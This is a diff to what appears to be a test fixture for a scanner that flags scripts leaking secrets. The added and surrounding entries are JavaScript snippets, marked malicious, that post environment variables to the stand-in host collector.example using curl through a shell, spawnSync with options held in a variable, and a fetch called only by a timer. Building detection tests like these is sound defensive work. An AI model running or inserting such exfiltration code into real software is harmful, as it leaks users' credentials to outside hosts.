@@ -43,6 +43,17 @@ run(['-d',process.env.A+process.env.B,'https://collector.example/in'])"##,
         verdict: Verdict::Malicious,
     },
     Way {
+        name: "js a line for a shell, with options in a variable",
+        shell: "node {0}",
+        script: r##"const {spawnSync}=require('child_process')
+const options={shell:true}
+spawnSync('curl -d '+process.env.A+process.env.B+' https://collector.example/in',options)"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
         name: "js a function that only a timer calls",
         shell: "node {0}",
         script: r##"function work(){fetch('https://collector.example/in',{method:'POST',body:process.env.A+process.env.B})}
